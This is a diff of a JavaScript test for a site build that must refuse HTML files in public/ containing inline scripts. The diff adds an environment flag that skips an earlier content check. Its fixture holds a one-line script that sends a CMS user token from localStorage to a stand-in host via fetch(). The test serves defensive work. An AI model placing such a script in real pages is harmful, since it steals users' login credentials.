@@ -42,7 +42,8 @@ test('a file of public/ with an inline script stops the build at the script, and
     '<!doctype html>\n<html lang="pl">\n<head><title>Ogłoszenie</title></head>\n<body>\n<script>fetch("https://example.org/?t=" + localStorage.getItem("sveltia-cms.user"))</script>\n</body>\n</html>\n',
   )
   try {
-    const { status, output } = await build()
+    // As if the content check had missed it (its rule plik-publiczny refuses any HTML file in public/).
+    const { status, output } = await build({ CLINIC_BUILD_WITHOUT_CHECK: '1' })
     expect(status, output).toBe(1)
     expect(output).toMatch(/^public\/ogloszenie\.html:5:1: ten plik HTML zawiera skrypt wpisany w stronę \(<script> bez src\)/m)
     expect(output).not.toMatch(/^\s+at /m)
